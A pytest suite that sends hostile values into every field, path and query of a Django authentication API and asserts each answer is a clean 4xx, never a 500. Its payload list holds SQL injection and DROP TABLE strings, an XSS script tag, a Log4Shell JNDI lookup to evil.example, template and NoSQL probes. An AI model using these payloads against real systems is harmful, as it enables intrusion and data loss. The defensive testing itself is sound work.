"""SQL, JSON and encoding injection in every field of every JSON endpoint: each answer is a
success or a 4xx ``{"detail", "code"}``, never a 500, and a refused request writes nothing.
(OWASP ASVS 4.0 V5.3.4/V13.2; API.md "bad input never yields a 500".)"""

from __future__ import annotations

import json
from typing import Any
from urllib.parse import quote

import pytest
from rest_framework.test import APIClient

from authcore.models import User
from clients.models import ClientUser
from tests.clients.conftest import (
    Backend,
    Bearer,
    ClientUserCredentials,
    alice,  # noqa: F401 (fixture)
    backend,  # noqa: F401 (fixture)
    bearer,  # noqa: F401 (fixture)
    master,  # noqa: F401 (fixture)
)

pytestmark = pytest.mark.django_db


@pytest.fixture
def api_client() -> APIClient:
    """A client that sees what a caller sees: a 500 is a response, not a raised exception."""
    client = APIClient()
    client.raise_request_exception = False
    return client


PAYLOADS: list[Any] = [
    "' OR '1'='1' --",
    "'; DROP TABLE authcore_user; --",
    "admin'/*",
    "\x00",
    "nul\x00inside",
    "a" * 10_000,
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "\u202e\u0645",
    {"$ne": None},
    {"$gt": ""},
    ["list", "of", "values"],
    None,
    True,
    -1,
    10**40,
    1.5,
]

CREDENTIAL = {"id": "x", "rawId": "x", "type": "public-key", "response": {}}
# (method, path, auth, body template): the field under attack is replaced by each payload.
ENDPOINTS: list[tuple[str, str, str, dict[str, Any]]] = [
    ("post", "/api/clients", "master", {"name": "shop"}),
    ("post", "/api/users", "api_key", {"identifier": "eve@shop", "email": "eve@example.test"}),
    ("post", "/api/tokens", "api_key", {"identifier": "alice@shop", "secret": "x"}),
    ("post", "/api/tokens", "api_key", {"identifier": "alice@shop", "expires_in": 60}),
    ("post", "/api/tokens/introspect", "api_key", {"token": "x"}),
    ("post", "/api/tokens/revoke", "api_key", {"token": "x"}),
    ("post", "/api/tokens/revoke", "api_key", {"jti": "x"}),
    ("post", "/api/auth/passkey/register/options", "none", {"username": "eve"}),
    ("post", "/api/auth/passkey/register/options", "none", {"display_name": "E"}),
    ("post", "/api/auth/passkey/login/options", "none", {"username": "eve"}),
    ("post", "/api/auth/passkey/register/verify", "none", CREDENTIAL),
    ("post", "/api/auth/passkey/login/verify", "none", CREDENTIAL),
    ("post", "/api/auth/email/start", "none", {"email": "eve@example.test"}),
    ("post", "/api/auth/email/verify", "none", {"email": "eve@example.test", "code": "123456"}),
    ("post", "/api/auth/email/verify", "none", {"link_token": "x"}),
]  # fmt: skip


def auth_headers(kind: str, basic: dict[str, str], client: Backend) -> dict[str, str]:
    return {"master": basic, "api_key": client.headers, "none": {}}[kind]


def assert_no_500(response: Any, label: str) -> None:
    assert response.status_code < 500, f"{label}: {response.status_code} {response.content[:300]!r}"
    if response.status_code >= 400:
        body = response.json()
        assert set(body) >= {"detail", "code"}, label


@pytest.mark.parametrize(("method", "path", "auth", "template"), ENDPOINTS)
def test_hostile_values_in_every_field_never_cause_a_500(
    api_client: APIClient,
    master: dict[str, str],  # noqa: F811
    backend: Backend,  # noqa: F811
    alice: ClientUserCredentials,  # noqa: F811
    method: str,
    path: str,
    auth: str,
    template: dict[str, Any],
) -> None:
    users_before = User.objects.count()
    headers = auth_headers(auth, master, backend)
    for field in template:
        for payload in PAYLOADS:
            # ensure_ascii: a lone surrogate travels as the JSON escape a client would send
            body = json.dumps({**template, field: payload})
            response = getattr(api_client, method)(
                path, body, content_type="application/json", headers=headers
            )
            assert_no_500(response, f"{path} {field}={payload!r:.40}")
    # SQL in a value is data: stored verbatim where a field accepts it, the tables intact
    assert User.objects.count() >= users_before
    stored = ClientUser.objects.filter(identifier__contains="DROP TABLE").values_list(
        "identifier", flat=True
    )
    assert set(stored) <= {"'; DROP TABLE authcore_user; --"}


LONE_SURROGATE = "\ud800"  # valid as a JSON escape, not encodable as UTF-8


@pytest.mark.parametrize(("method", "path", "auth", "template"), ENDPOINTS)
def test_a_lone_surrogate_in_any_field_is_not_a_500(
    api_client: APIClient,
    master: dict[str, str],  # noqa: F811
    backend: Backend,  # noqa: F811
    method: str,
    path: str,
    auth: str,
    template: dict[str, Any],
) -> None:
    headers = auth_headers(auth, master, backend)
    for field in template:
        body = json.dumps({**template, field: LONE_SURROGATE})
        response = getattr(api_client, method)(
            path, body, content_type="application/json", headers=headers
        )
        assert_no_500(response, f"{path} {field}")


@pytest.mark.parametrize("payload", [*PAYLOADS, LONE_SURROGATE], ids=lambda p: repr(p)[:20])
def test_hostile_values_in_paths_and_queries_never_cause_a_500(
    api_client: APIClient,
    backend: Backend,  # noqa: F811
    bearer: Bearer,  # noqa: F811
    payload: Any,
) -> None:
    # percent-encoded as a client would send it (a lone surrogate as its WTF-8 bytes)
    text = quote(str(payload)[:200].encode("utf-8", "surrogatepass"), safe="")
    for response in (
        api_client.delete(f"/api/tokens/{text}", headers=backend.headers),
        api_client.patch(
            f"/api/passkeys/{text}", {"name": "n"}, format="json", headers=bearer.headers
        ),
        api_client.delete(f"/api/passkeys/{text}", headers=bearer.headers),
        api_client.get(f"/auth/web/login?provider={text}&next={text}"),
        api_client.get(f"/auth/web/callback?code={text}&state={text}"),
    ):
        assert_no_500(response, repr(payload)[:40])


def test_a_body_that_is_not_utf8_is_a_400(api_client: APIClient) -> None:
    response = api_client.post(
        "/api/auth/email/start", b'{"email": "\xff\xfe"}', content_type="application/json"
    )
    assert response.status_code == 400
    assert {"detail", "code"} <= set(response.json())


@pytest.mark.parametrize("opening", ["[", '{"a":'])
def test_a_body_nested_thousands_deep_is_a_400_not_a_500(
    api_client: APIClient, opening: str
) -> None:
    closing = "]" if opening == "[" else "}"
    deep = opening * 5000 + "1" + closing * 5000
    for path in ("/api/auth/passkey/login/options", "/api/auth/email/start"):
        response = api_client.post(path, deep, content_type="application/json")
        assert response.status_code == 400, path
        assert response.json()["code"] == "malformed_json"
